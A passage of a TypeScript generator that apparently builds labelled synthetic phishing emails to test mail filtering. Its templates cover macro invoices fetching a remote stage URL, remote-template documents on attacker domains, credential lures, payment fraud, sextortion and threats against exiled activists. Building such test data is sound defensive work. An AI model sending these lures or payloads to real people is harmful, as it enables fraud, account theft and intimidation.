          ? fm.sender
          : kind === "genuine"
            ? { how: "genuine", domain: dom }
            : { how: "own-domain", domain: dom },
    },
    expect: { links: "none", attachment: "archive-script" },
  };
};

// ---------------------------------------------------------------- invoices with macro documents

const macroInvoice: KindMaker = async (c) => {
  const { rng, lang } = c;
  const n = rng.int(10000, 99999);
  const stage = `https://${businessDomain(rng)}/${rng.pick(["img", "tmp", "files"])}/${rng.alnum(8)}.${rng.pick(["png", "dat", "jpg"])}`;
  const form = rng.pick(["docm", "xlsm", "doc", "template"]);
  const decoy = `Invoice ${n}\nThis document was created in an earlier version of Office.\nTo view its content, click Enable Editing and then Enable Content.`;
  const src = macroSource(rng, stage);
  const file =
    form === "docm"
      ? {
          filename: `Invoice_${n}.docm`,
          mime: "application/vnd.ms-word.document.macroEnabled.12",
          content: await macroOoxml("docm", src, decoy),
          shape: "office-macro" as const,
        }
      : form === "xlsm"
        ? {
            filename: `Payment_${n}.xlsm`,
            mime: "application/vnd.ms-excel.sheet.macroEnabled.12",
            content: await macroOoxml("xlsm", src, decoy),
            shape: "office-macro" as const,
          }
        : form === "doc"
          ? {
              filename: `Invoice_${n}.doc`,
              mime: "application/msword",
              content: macroDoc(src),
              shape: "office-macro" as const,
            }
          : {
              filename: `Invoice_${n}.docx`,
              mime: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
              content: await remoteTemplateDocx(
                `https://${attackerDomain(rng, "office")}/templates/${rng.alnum(6)}.dotm`,
                decoy,
              ),
              shape: "office-remote-template" as const,
            };
  const vendor = businessDomain(rng);
  const compromised = rng.chance(0.4);
  const p = person(rng, "en");
  const text = by(lang, {
    en: [
      rng.pick(["Hello,", "Good morning,", "Dear customer,"]),
      `Please find attached invoice ${n} for the services of last month. Kindly arrange payment by the due date.`,
      "",
      "Best regards,",
      p.name,
      "Accounts Department",
    ].join("\n"),
    fa: [
      "با سلام،",
      `فاکتور شماره ${n} بابت خدمات ماه گذشته پیوست است. لطفا تا موعد مقرر پرداخت کنید.`,
      "",
      "با احترام",
      p.name,
    ].join("\n"),
    ar: [
      "مرحبا،",
      `مرفق الفاتورة رقم ${n} عن خدمات الشهر الماضي، يرجى السداد قبل تاريخ الاستحقاق.`,
      "",
      "مع التحية",
      p.name,
    ].join("\n"),
  });
  const dom = compromised ? vendor : attackerDomain(rng, "invoice");
  return {
    draft: {
      from: {
        name: rng.chance(0.5) ? p.name : "Accounts Receivable",
        addr: `${rng.pick(["accounts", "billing", "invoice", p.local])}@${dom}`,
      },
      to: { addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick([`Invoice ${n}`, `Overdue payment - invoice ${n}`, `RE: Invoice #${n} attached`]),
        fa: `فاکتور ${n}`,
        ar: `فاتورة رقم ${n}`,
      }),
      text,
      attachments: [{ filename: file.filename, mime: file.mime, content: file.content }],
      lang,
      sender: compromised ? { how: "genuine", domain: dom } : { how: "own-domain", domain: dom },
    },
    expect: { links: "none", attachment: file.shape },
  };
};

// ---------------------------------------------------------------- QR codes

const qrCode: KindMaker = async (c) => {
  const { rng, org, lang } = c;
  const png = await qrLikePng(rng);
  const paras = by(lang, {
    en: [
      rng.pick([
        "Your multi-factor authentication must be renewed before the end of the week.",
        "A document is waiting for your signature.",
        "Your mailbox access needs to be re-validated under the new security policy.",
      ]),
      "Scan the QR code below with your phone camera to continue. The code is valid for 24 hours.",
    ],
    fa: [
      "تایید دو مرحله‌ای حساب شما باید تا پایان هفته تمدید شود.",
      "کد QR زیر را با دوربین گوشی اسکن کنید. این کد ۲۴ ساعت اعتبار دارد.",
    ],
    ar: [
      "يجب تجديد المصادقة الثنائية لحسابك قبل نهاية الأسبوع.",
      "امسح رمز QR أدناه بكاميرا هاتفك للمتابعة، الرمز صالح لمدة 24 ساعة.",
    ],
  });
  const inline = rng.chance(0.5);
  const cid = `qr${rng.hex(8)}@mail`;
  const dom = rng.chance(0.5) ? lookalikeOf(org.domain, rng).host : attackerDomain(rng, "mfa");
  const att: Attachment = inline
    ? { filename: "qrcode.png", mime: "image/png", content: png, cid }
    : { filename: rng.pick(["QR.png", "scan_me.png", "MFA_code.png"]), mime: "image/png", content: png };
  return {
    draft: {
      from: { name: rng.pick(deskNames[lang]), addr: `${rng.pick(["security", "it", "noreply"])}@${dom}` },
      to: { addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick([
          "Action required: renew your MFA",
          "Document pending signature",
          "Mailbox re-validation",
        ]),
        fa: "تمدید تایید دو مرحله‌ای",
        ar: "تجديد المصادقة الثنائية",
      }),
      ...(inline
        ? { html: htmlBody(lang, paras, { image: cid, footer: orgName(org, lang) }) }
        : { text: paras.join("\n\n") }),
      attachments: [att],
      lang,
      sender: { how: "own-domain", domain: dom },
    },
    expect: { links: "none", attachment: "image" },
  };
};

// ---------------------------------------------------------------- PDF with the link inside

const pdfLure: KindMaker = (c) => {
  const { rng, lang } = c;
  const href = rng.chance(0.5)
    ? freeHostedUrl(rng)
    : `https://${attackerDomain(rng, "docs")}${loginPath(rng, c.victim.addr)}`;
  const title = rng.pick(["Secure document", "Contract for signature", "Grant agreement", "Payment advice"]);
  const file = pdf(
    [title, "This document is protected.", "Click below and sign in with your email to view it."],
    href,
  );
  const dom = rng.chance(0.5) ? rng.pick(PARTNERS).domain : attackerDomain(rng, "sign");
  const genuine = PARTNERS.some((p) => p.domain === dom);
  return {
    draft: {
      from: {
        name: rng.pick(["DocuSign via Secure", "Grants Office", "Finance", person(rng, "en").name]),
        addr: `${rng.pick(["docs", "finance", "grants"])}@${dom}`,
      },
      to: { addr: c.victim.addr },
      subject: by(lang, { en: `${title}: please review`, fa: "سند برای امضا", ar: "مستند للتوقيع" }),
      text: by(lang, {
        en: "Please review the attached document and sign it at your earliest convenience.",
        fa: "لطفا سند پیوست را بررسی و امضا کنید.",
        ar: "يرجى مراجعة المستند المرفق وتوقيعه.",
      }),
      attachments: [{ filename: `${title.replace(/ /g, "_")}.pdf`, mime: "application/pdf", content: file }],
      lang,
      sender: genuine ? { how: "genuine", domain: dom } : { how: "own-domain", domain: dom },
    },
    expect: { links: "none", attachment: "pdf-link" },
  };
};

// ---------------------------------------------------------------- payment-change fraud (BEC)

const becPayment: KindMaker = (c) => {
  const { rng, org, lang } = c;
  const boss = person(rng, rng.chance(0.6) ? "en" : lang);
  const iban = `${rng.pick(["GB", "DE", "LT", "NL"])}${rng.int(10, 99)}${rng.alnum(4).toUpperCase()}${rng.int(1e11, 9e11)}${rng.int(1000, 9999)}`;
  const how = rng.pick(["lookalike", "freemail", "reply-to"]);
  const look = lookalikeOf(org.domain, rng).host;
  const fm = freemailSender(rng, boss);
  const text = by(lang, {
    en: rng
      .pick([
        [
          `Hi ${c.victim.first},`,
          `Our bank has changed and the payment for the ${rng.pick(["conference venue", "translation work", "consultant", "printing"])} should go to the new account below from now on.`,
          `IBAN: ${iban}\nBIC: ${rng.alnum(8).toUpperCase()}`,
          "Please process it today and confirm by email. I am in meetings and cannot take calls.",
          "",
          boss.name,
        ],
        [
          `${c.victim.first},`,
          `I need you to make a transfer of ${rng.int(4, 48) * 250} EUR today to a partner. It is confidential until the announcement, so please keep it between us.`,
          `Account: ${iban}`,
          "Reply when done.",
          boss.first,
        ],
      ])
      .join("\n"),
    fa: [
      `${c.victim.first} جان سلام،`,
      "حساب بانکی ما عوض شده و از این به بعد پرداخت‌ها باید به حساب جدید زیر واریز شود.",
      `IBAN: ${iban}`,
      "لطفا امروز انجام بده و با ایمیل خبر بده. در جلسه هستم و نمی‌توانم تلفن جواب بدهم.",
      "",
      boss.name,
    ].join("\n"),
    ar: [
      `مرحبا ${c.victim.first}،`,
      "تغير حسابنا المصرفي، ويجب تحويل الدفعات من الآن إلى الحساب الجديد أدناه.",
      `IBAN: ${iban}`,
      "أرجو إتمام التحويل اليوم وتأكيده بالبريد، فأنا في اجتماعات ولا أستطيع الرد على الهاتف.",
      "",
      boss.name,
    ].join("\n"),
  });
  return {
    draft: {
      from: {
        name: boss.name,
        addr: how === "freemail" ? fm.addr : `${boss.local}@${how === "lookalike" ? look : org.domain}`,
      },
      to: { addr: c.victim.addr },
      ...(how === "reply-to" ? { replyTo: fm.addr } : {}),
      subject: by(lang, {
        en: rng.pick(["Updated bank details", "Urgent payment", "Quick request", "Transfer today"]),
        fa: "تغییر حساب بانکی",
        ar: "تحديث بيانات الحساب المصرفي",
      }),
      text,
      lang,
      sender:
        how === "freemail"
          ? fm.sender
          : how === "lookalike"
            ? { how: "own-domain", domain: look }
            : {
                how: "spoof",
                domain: org.domain,
                policy: org.policy,
                envelope: `bounce@${attackerDomain(rng)}`,
              },
    },
    expect: { links: "none" },
  };
};

// ---------------------------------------------------------------- extortion

function btcAddress(rng: Rng): string {
  const b58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
  return rng.chance(0.5)
    ? `bc1q${Array.from({ length: 38 }, () => "qpzry9x8gf2tvdw0s3jn54khce6mua7l"[rng.int(0, 31)]).join("")}`
    : `${rng.pick(["1", "3"])}${Array.from({ length: 33 }, () => b58[rng.int(0, b58.length - 1)]).join("")}`;
}

const extortion: KindMaker = (c) => {
  const { rng, org, lang } = c;
  const btc = btcAddress(rng);
  const amount = rng.int(8, 25) * 100;
  const text = by(lang, {
    en: [
      rng.pick(["Hello there,", "Hi, this is a very important message for you.", `${c.victim.first},`]),
      rng.pick([
        "A few months ago I got access to your computer through a malicious program on a website you visited. Since then I have been watching everything you do.",
        "Your device was infected with spyware when you opened one of your emails. I have had full control of the camera and the microphone since then.",
        "I know your secret. I have videos of you taken with your own webcam and a list of all your contacts.",
      ]),
      `If you want me to delete everything, send ${amount} USD in Bitcoin to this address: ${btc}`,
      rng.pick([
        "You have 48 hours from the moment you read this.",
        "After two days, all your contacts, colleagues and family will receive the videos.",
        "Do not reply to this email and do not go to the police.",
      ]),
    ].join("\n\n"),
    fa: [
      "سلام،",
      "چند ماه پیش به گوشی و کامپیوترت دسترسی پیدا کردم و از همه چیز، از جمله عکس‌ها و پیام‌هایت، نسخه دارم.",
      `اگر نمی‌خواهی این‌ها برای همکاران و خانواده‌ات فرستاده شود، ${amount} دلار بیت‌کوین به این آدرس بفرست: ${btc}`,
      "دو روز وقت داری.",
    ].join("\n\n"),
    ar: [
      "مرحبا،",
      "منذ أشهر تمكنت من الوصول إلى جهازك، ولدي نسخة من صورك ورسائلك وقائمة معارفك.",
      `إذا أردت ألا تصل هذه المواد إلى عائلتك وزملائك فأرسل ${amount} دولار بالبيتكوين إلى هذا العنوان: ${btc}`,
      "أمامك يومان فقط.",
    ].join("\n\n"),
  });
  const self = rng.chance(0.5);
  const p = person(rng, "en");
  const compromised = rng.chance(0.5);
  const dom = compromised ? businessDomain(rng) : attackerDomain(rng);
  return {
    draft: {
      from: self ? { addr: c.victim.addr } : { name: p.name, addr: `${p.local}@${dom}` },
      to: { addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick(["Your account is hacked", "Payment request", `${c.victim.addr}`, "Security notice"]),
        fa: "آخرین فرصت تو",
        ar: "فرصتك الأخيرة",
      }),
      text,
      lang,
      sender: self
        ? {
            how: "spoof",
            domain: org.domain,
            policy: org.policy,
            envelope: `${rng.alnum(6).toLowerCase()}@${attackerDomain(rng)}`,
          }
        : compromised
          ? { how: "genuine", domain: dom }
          : { how: "own-domain", domain: dom },
    },
    expect: { links: "none" },
  };
};

// ---------------------------------------------------------------- threats in Persian and Arabic

const THREATS_FA = [
  [
    "خانم/آقای {first}،",
    "فعالیت‌های شما با رسانه‌های معاند به طور کامل زیر نظر است.",
    "اگر به این کارها ادامه بدهید، به محض ورود به کشور بازداشت می‌شوید و پرونده شما به دادگاه انقلاب فرستاده خواهد شد.",
    "به فکر پدر و مادرتان در تهران باشید.",
  ],
  [
    "{first}،",
    "آدرس خانه‌ات را داریم و می‌دانیم بچه‌هایت کدام مدرسه می‌روند.",
    "این آخرین باری است که با زبان خوش می‌گوییم: از این فعالیت‌ها دست بکش.",
    "پشیمان می‌شوی.",
  ],
  [
    "سلام {first}",
    "فکر نکن چون خارج از ایران هستی دست ما به تو نمی‌رسد.",
    "هر مطلبی که علیه نظام منتشر کنی، خانواده‌ات تاوانش را می‌دهند.",
    "مراقب باش.",
  ],
  [
    "به {first}",
    "برادرت دیروز احضار شد. دفعه بعد نوبت خودت است.",
    "اگر می‌خواهی برای خانواده‌ات مشکلی پیش نیاید، صفحه‌ات را ببند و دیگر مصاحبه نکن.",
  ],
];
const THREATS_AR = [
  [
    "إلى {first}،",
    "نحن نتابع كل ما تنشره وكل من تتواصل معهم.",
    "إذا لم تتوقف عن نشاطك مع هذه المنظمات فسيتم اعتقالك فور عودتك، ولن يسأل عنك أحد.",
    "فكّر في أهلك.",
  ],
  ["{first}،", "نعرف عنوانك ونعرف أين يعمل أخوك.", "هذا آخر تحذير لك: اسكت وإلا ستدفع الثمن أنت وعائلتك."],
  [
    "السيد {first}،",
    "لا تظن أن وجودك في الخارج يحميك.",
    "كل كلمة تكتبها ضد الدولة سيُحاسب عليها أهلك، وسنصل إليك عندما نريد.",
  ],
  [
    "يا {first}",
    "والدتك استُدعيت للتحقيق بسببك. المرة القادمة لن تكون مجرد أسئلة.",
    "أغلق صفحتك وتوقف عن المقابلات.",
  ],
];

function threatKind(lang: "fa" | "ar"): KindMaker {
  return async (c) => {
    const { rng } = c;
    const lines = rng
      .pick(lang === "fa" ? THREATS_FA : THREATS_AR)
      .map((l) => l.replace(/\{first\}/g, c.victim.first));
    const p = person(rng, lang);
    const fm = freemailSender(rng, {
      ...p,
      local: rng.pick(["truth", "watcher", "patriot", "haghighat", "nazer", "sout"]) + rng.int(100, 99999),
    });
    const photo = rng.chance(0.2);
    return {
      draft: {
        from: {
          ...(rng.chance(0.5)
            ? {
                name:
                  lang === "fa"
                    ? rng.pick(["یک دوست", "ناظر", "سرباز گمنام"])
                    : rng.pick(["صديق", "مراقب", "فاعل خير"]),
              }
            : {}),
          addr: fm.addr,
        },
        to: { addr: c.victim.addr },
        subject:
          lang === "fa"
            ? rng.pick(["هشدار", "برای آخرین بار", "پرونده شما", "خانواده‌ات"])
            : rng.pick(["تحذير", "للمرة الأخيرة", "ملفك", "عائلتك"]),
        text: lines.join("\n\n"),
        ...(photo
          ? {
              attachments: [
                {
                  filename: "IMG_" + rng.int(1000, 9999) + ".jpg",
                  mime: "image/jpeg",
                  content: await photoJpeg(rng),
                },
              ],
            }
          : {}),
        lang,
        sender: fm.sender,
      },
      expect: { links: "none", ...(photo ? { attachment: "image" as const } : {}) },
    };
  };
}

// ---------------------------------------------------------------- reply-chain hijacking

const replyChain: KindMaker = async (c) => {
  const { rng, lang } = c;
  const partner = rng.pick(PARTNERS);
  const p = person(rng, rng.chance(0.5) ? "en" : lang);
  const topic = by(lang, {
    en: rng.pick([
      "Workshop logistics",
      "Draft report for review",
      "Grant budget questions",
      "Translation of the statement",
    ]),
    fa: rng.pick(["هماهنگی کارگاه", "پیش‌نویس گزارش", "ترجمه بیانیه"]),
    ar: rng.pick(["ترتيبات الورشة", "مسودة التقرير", "ترجمة البيان"]),
  });
  const prior = by(lang, {
    en: `On ${rng.int(2, 28)} ${rng.pick(["Feb", "Apr", "Jun", "Sep", "Nov"])} ${c.victim.name} <${c.victim.addr}> wrote:\n> Thanks ${p.first}, could you send the latest version when it is ready?\n> Best,\n> ${c.victim.first}`,
    fa: `در تاریخ ${rng.int(2, 28)} ${c.victim.name} <${c.victim.addr}> نوشت:\n> ممنون ${p.first}، لطفا نسخه آخر را که آماده شد بفرست.\n> ${c.victim.first}`,
    ar: `في ${rng.int(2, 28)} كتب ${c.victim.name} <${c.victim.addr}>:\n> شكرا ${p.first}، هل يمكنك إرسال النسخة الأخيرة عندما تكون جاهزة؟\n> ${c.victim.first}`,
  });
  const viaLink = rng.chance(0.6);
  const href = rng.chance(0.5) ? freeHostedUrl(rng) : compromisedSiteUrl(rng);
  const lead = by(lang, {
    en: viaLink
      ? `Hi ${c.victim.first},\n\nHere is the updated version: ${href}\n\nLet me know what you think.\n${p.first}`
      : `Hi ${c.victim.first},\n\nThe updated version is attached (zipped because of its size).\n${p.first}`,
    fa: viaLink
      ? `سلام ${c.victim.first}،\n\nنسخه به‌روز اینجاست: ${href}\n\nنظرت را بگو.\n${p.first}`
      : `سلام ${c.victim.first}،\n\nنسخه به‌روز پیوست است.\n${p.first}`,
    ar: viaLink
      ? `مرحبا ${c.victim.first}،\n\nهذه النسخة المحدثة: ${href}\n\nأخبرني برأيك.\n${p.first}`
      : `مرحبا ${c.victim.first}،\n\nالنسخة المحدثة مرفقة.\n${p.first}`,
  });
  const parent = `<${rng.alnum(20)}@${c.org.domain}>`;
  const root = `<${rng.alnum(20)}@${partner.domain}>`;
  const arch = viaLink ? undefined : await scriptArchive(rng, lang);
  return {
    draft: {
      from: { name: p.name, addr: `${p.local}@${partner.domain}` },
      to: { name: c.victim.name, addr: c.victim.addr },
      subject: `${rng.pick(["Re: ", "RE: ", "Re: Re: "])}${topic}`,
      text: `${lead}\n\n${prior}`,
      headers: [
        ["In-Reply-To", parent],
        ["References", `${root} ${parent}`],
      ],
      ...(arch ? { attachments: [{ filename: arch.name, mime: "application/zip", content: arch.zip }] } : {}),
      lang,
      sender: { how: "genuine", domain: partner.domain },
    },
    expect: {
      links: viaLink ? "some" : "any",
      reply: true,
      ...(arch ? { attachment: "archive-script" as const } : {}),
    },
  };
};

// ---------------------------------------------------------------- compromised account

const compromisedAccount: KindMaker = (c) => {
  const { rng, lang } = c;
  const partner = rng.pick(PARTNERS);
  const p = person(rng, rng.chance(0.5) ? "en" : lang);
  const href = rng.chance(0.5)
    ? `https://${attackerDomain(rng, rng.pick(["docs", "share", "file"]))}${loginPath(rng, c.victim.addr)}`
    : freeHostedUrl(rng);
  const paras = by(lang, {
    en: [
      `Dear ${c.victim.first},`,
      `I am sharing with you the ${rng.pick(["final programme", "report we discussed", "proposal", "list of speakers"])} through our secure document portal. You will be asked to confirm your email address.`,
      `Kind regards,\n${p.name}\n${partner.name}`,
    ],
    fa: [
      `${c.victim.first} عزیز،`,
      "فایلی را که صحبتش را کرده بودیم از طریق سامانه اسناد برایتان فرستادم. برای دیدن آن باید ایمیل خود را تایید کنید.",
      `با احترام\n${p.name}`,
    ],
    ar: [
      `عزيزي ${c.victim.first}،`,
      "أرسلت لك الملف الذي تحدثنا عنه عبر بوابة المستندات الآمنة، وسيطلب منك تأكيد بريدك الإلكتروني.",
      `مع التحية\n${p.name}`,
    ],
  });
  return {
    draft: {
      from: { name: p.name, addr: `${p.local}@${partner.domain}` },
      to: { name: c.victim.name, addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick(["Document shared with you", "The file we discussed", "Programme (final)"]),
        fa: "فایل مورد نظر",
        ar: "الملف الذي تحدثنا عنه",
      }),
      ...linkBodies(c, paras, href, by(lang, { en: "View document", fa: "مشاهده سند", ar: "عرض المستند" })),
      lang,
      sender: { how: "genuine", domain: partner.domain },
    },
    expect: { links: "some" },
  };
};

// ---------------------------------------------------------------- hard: built to look like ordinary mail

const hardRapport: KindMaker = (c) => {
  const { rng, lang } = c;
  const p = person(rng, rng.chance(0.5) ? "en" : lang);
  const outlet = rng.pick(OUTLETS);
  const fm = freemailSender(rng, p);
  const text = by(lang, {
    en: rng
      .pick([
        [
          `Dear ${c.victim.first},`,
          `My name is ${p.name}, I am a researcher working with ${outlet} on a long-form piece about civil society in exile. A colleague suggested I contact you.`,
          "Would you be open to a short conversation next week? I am flexible with times. If it is easier, let me know a number I can reach you on.",
          "",
          "With best wishes,",
          p.name,
        ],
        [
          `Hello ${c.victim.first},`,
          `We met briefly at the ${rng.pick(EVENTS)} last year. I am putting together a small panel and thought of you.`,
          "Could we talk by phone? Please let me know when suits you.",
          "",
          p.first,
        ],
      ])
      .join("\n"),
    fa: [
      `${c.victim.first} عزیز سلام،`,
      `من ${p.name} هستم و برای ${outlet} روی گزارشی درباره فعالان ایرانی خارج از کشور کار می‌کنم. یکی از همکاران شما را معرفی کرد.`,
      "اگر موافق باشید هفته آینده کمی صحبت کنیم. شماره‌ای بدهید که بتوانم تماس بگیرم.",
      "",
      "با احترام",
      p.name,
    ].join("\n"),
    ar: [
      `عزيزي ${c.victim.first}،`,
      `اسمي ${p.name}، أعمل مع ${outlet} على تحقيق عن الناشطين في المنفى، وقد اقترح أحد الزملاء التواصل معك.`,
      "هل يمكننا التحدث الأسبوع المقبل؟ أرسل لي رقما أتصل بك عليه.",
      "",
      "مع التحية",
      p.name,
    ].join("\n"),
  });
  return {
    draft: {
      from: { name: p.name, addr: fm.addr },
      to: { name: c.victim.name, addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick(["Quick question", "Request for a conversation", "Panel next spring"]),
        fa: "درخواست گفتگو",
        ar: "طلب محادثة",
      }),
      text,
      lang,
      sender: fm.sender,
    },
    expect: { links: "none" },
  };
};

const hardBec: KindMaker = (c) => {
  const { rng, lang } = c;
  const boss = person(rng, rng.chance(0.6) ? "en" : lang);
  const fm = freemailSender(rng, boss);
  const text = by(lang, {
    en: rng.pick([
      `${c.victim.first}, are you at your desk? I need a small favour, reply when you see this.\n\n${boss.first}\nSent from my phone`,
      `Hi ${c.victim.first}, can you send me the list of people attending the meeting on Thursday, with their phone numbers? My work laptop is broken so use this address.\n\nThanks\n${boss.first}`,
    ]),
    fa: `${c.victim.first} جان، سر کاری؟ یک کار کوچک دارم، هر وقت دیدی جواب بده.\n\n${boss.first}`,
    ar: `${c.victim.first}، هل أنت في المكتب؟ أحتاج خدمة صغيرة، رد عندما ترى الرسالة.\n\n${boss.first}`,
  });
  return {
    draft: {
      from: { name: boss.name, addr: fm.addr },
      to: { addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick(["Quick favour", "Are you around?", "List for Thursday"]),
        fa: "یک کار کوچک",
        ar: "خدمة صغيرة",
      }),
      text,
      lang,
      sender: fm.sender,
    },
    expect: { links: "none" },
  };
};

const hardCompromisedLink: KindMaker = (c) => {
  const { rng, lang } = c;
  const partner = rng.pick(PARTNERS);
  const p = person(rng, rng.chance(0.5) ? "en" : lang);
  const href = compromisedSiteUrl(rng);
  const text = by(lang, {
    en: `Hi ${c.victim.first},\n\nHere is the file from our call: ${href}\n\nSpeak soon,\n${p.first}`,
    fa: `سلام ${c.victim.first}،\n\nفایل جلسه را اینجا گذاشتم: ${href}\n\n${p.first}`,
    ar: `مرحبا ${c.victim.first}،\n\nهذا ملف الاجتماع: ${href}\n\n${p.first}`,
  });
  return {
    draft: {
      from: { name: p.name, addr: `${p.local}@${partner.domain}` },
      to: { name: c.victim.name, addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick(["File from our call", "Notes", "As discussed"]),
        fa: "فایل جلسه",
        ar: "ملف الاجتماع",
      }),
      text,
      lang,
      sender: { how: "genuine", domain: partner.domain },
    },
    expect: { links: "some" },
  };
};

const hardVeiledThreat: KindMaker = (c) => {
  const { rng, lang } = c;
  const p = person(rng, lang);
  const fm = freemailSender(rng, p);
  const text = by(lang, {
    en: rng.pick([
      `${c.victim.first},\n\nYour mother looked tired at the market on Saturday. It would be a shame if her health got worse because of your writing.\n\nThink about her.`,
      `I liked your last article. Your daughter's school has a nice garden too.\n\nA reader`,
    ]),
    fa: rng.pick([
      `${c.victim.first}،\n\nمادرت شنبه در بازار خسته به نظر می‌رسید. حیف است حالش به خاطر نوشته‌های تو بدتر شود.\n\nبه او فکر کن.`,
      `مقاله آخرت را خواندم. مدرسه دخترت هم حیاط قشنگی دارد.\n\nیک خواننده`,
    ]),
    ar: rng.pick([
      `${c.victim.first}،\n\nبدت والدتك متعبة في السوق يوم السبت. سيكون من المؤسف أن تسوء صحتها بسبب ما تكتبه.\n\nفكّر بها.`,
      `قرأت مقالك الأخير. مدرسة ابنتك فيها حديقة جميلة أيضا.\n\nقارئ`,
    ]),
  });
  return {
    draft: {
      from: { name: p.name, addr: fm.addr },
      to: { addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick(["Your family", "A reader", "Hello"]),
        fa: rng.pick(["سلام", "خانواده", "یک خواننده"]),
        ar: rng.pick(["مرحبا", "عائلتك", "قارئ"]),
      }),
      text,
      lang,
      sender: fm.sender,
    },
    expect: { links: "none" },
  };
};

/** Every kind, in report order. */
export const PHISH_KINDS: readonly KindSpec[] = [
  {
    kind: "credential-lookalike",
    hard: false,
    langs: [0.6, 0.25, 0.15],
    tactic: "webmail login page on a lookalike of the target's own domain",
    make: credentialLookalike,
  },
  {
    kind: "credential-free-host",
    hard: false,
    langs: [0.6, 0.25, 0.15],
    tactic: "login page on free hosting or cloud storage, sometimes behind a shortener or open redirect",
    make: credentialFreeHost,
  },
  {
    kind: "fake-invitation",
    hard: false,
    langs: [0.6, 0.25, 0.15],
    tactic: "conference, interview or roundtable invitation leading to a credential page",
    make: fakeInvitation,
  },
  {
    kind: "security-alert",
    hard: false,
    langs: [0.6, 0.3, 0.1],
    tactic: "fake sign-in alert from Google, Microsoft, Yahoo or Proton",
    make: securityAlert,
  },
  {
    kind: "shared-document",
    hard: false,
    langs: [0.6, 0.25, 0.15],
    tactic: "Drive, OneDrive, Dropbox or DocuSign share notification leading to a login page",
    make: sharedDocument,
  },
  {
    kind: "oauth-consent",
    hard: false,
    langs: [0.7, 0.2, 0.1],
    tactic: "link to the genuine Microsoft or Google consent page for an attacker's app",
    make: oauthConsent,
  },
  {
    kind: "html-attachment",
    hard: false,
    langs: [0.7, 0.15, 0.15],
    tactic:
      "HTML attachment that rebuilds a login page (plain, base64 or escaped; some post to a Telegram bot)",
    make: htmlAttachment,
  },
  {
    kind: "archive-script",
    hard: false,
    langs: [0.6, 0.25, 0.15],
    tactic: "zip (sometimes nested) with a shortcut or script posing as a document",
    make: archiveScript,
  },
  {
    kind: "macro-invoice",
    hard: false,
    langs: [0.8, 0.1, 0.1],
    tactic: "invoice with a macro document (docm, xlsm, doc) or a remote-template docx",
    make: macroInvoice,
  },
  {
    kind: "qr-code",
    hard: false,
    langs: [0.6, 0.25, 0.15],
    tactic: "image of a QR code, text asks to scan it; no link in the body",
    make: qrCode,
  },
  {
    kind: "pdf-link",
    hard: false,
    langs: [0.7, 0.15, 0.15],
    tactic: "PDF whose only link (to a credential page) is inside the document",
    make: pdfLure,
  },
  {
    kind: "bec-payment",
    hard: false,
    langs: [0.6, 0.25, 0.15],
    tactic: "bank-detail change or urgent transfer from a lookalike, free-mail or spoofed director",
    make: becPayment,
  },
  {
    kind: "extortion",
    hard: false,
    langs: [0.7, 0.15, 0.15],
    tactic:
      "sextortion or hacked-device extortion with a Bitcoin address, often spoofing the victim's own address",
    make: extortion,
  },
  {
    kind: "threat-fa",
    hard: false,
    langs: [0, 1, 0],
    tactic: "threats of arrest or violence against the reader or family, in Persian",
    make: threatKind("fa"),
  },
  {
    kind: "threat-ar",
    hard: false,
    langs: [0, 0, 1],
    tactic: "threats of arrest or violence against the reader or family, in Arabic",
    make: threatKind("ar"),
  },
  {
    kind: "reply-chain",
    hard: false,
    langs: [0.6, 0.25, 0.15],
    tactic: "reply in a real thread from a compromised partner account, with a link or an archive",
    make: replyChain,
  },
  {
    kind: "compromised-account",
    hard: false,
    langs: [0.6, 0.25, 0.15],
    tactic:
      "mail from a partner's compromised account (passes SPF, DKIM and DMARC) with a link to a credential page",
    make: compromisedAccount,
  },
  {
    kind: "hard-rapport",
    hard: true,
    langs: [0.5, 0.3, 0.2],
    tactic: "rapport-building first contact from free mail, no link (the payload comes later)",
    make: hardRapport,
  },
  {
    kind: "hard-bec",
    hard: true,
    langs: [0.6, 0.25, 0.15],
    tactic: "'are you at your desk?' from a free-mail account under a colleague's name",
    make: hardBec,
  },
  {
    kind: "hard-compromised-link",
    hard: true,
    langs: [0.6, 0.25, 0.15],
    tactic: "one plain link to a compromised ordinary website from a compromised partner account",
    make: hardCompromisedLink,
  },
  {
    kind: "hard-veiled-threat",
    hard: true,
    langs: [0.4, 0.3, 0.3],
    tactic: "veiled intimidation about family, without stock threat phrases",
    make: hardVeiledThreat,
  },
];

function pickLang(rng: Rng, shares: [number, number, number]): Lang {
  const x = rng.next();
  return x < shares[0] ? "en" : x < shares[0] + shares[1] ? "fa" : "ar";
}

/** Seeded: the same seed and counts give the same bytes. Each kind draws from its own stream. */
export async function generatePhish(opts: {
  seed: number;
  perKind: number;
  kinds?: readonly string[];
}): Promise<SyntheticMessage[]> {
  const out: SyntheticMessage[] = [];
  for (const [k, spec] of PHISH_KINDS.entries()) {
    if (opts.kinds && !opts.kinds.includes(spec.kind)) continue;
    const rng = new Rng(opts.seed * 1_000_003 + (k + 1) * 7919);
    for (let i = 0; i < opts.perKind; i++) {
      const org = rng.pick(ORGS);
      const lang = pickLang(rng, spec.langs);
      const victim = victimOf(rng, org, lang);
      const made = await spec.make({ rng, org, victim, lang });
      const at = randomDate(rng);
      const raw = await build(made.draft, org, at, rng, { withReceiverHeaders: rng.chance(0.75) });
      out.push({
        id: `${spec.kind}-${String(i + 1).padStart(3, "0")}`,
        kind: spec.kind,
        label: "phish",
        hard: spec.hard,
        lang,
        raw,
        expect: made.expect,
      });
    }
  }
  return out;
}
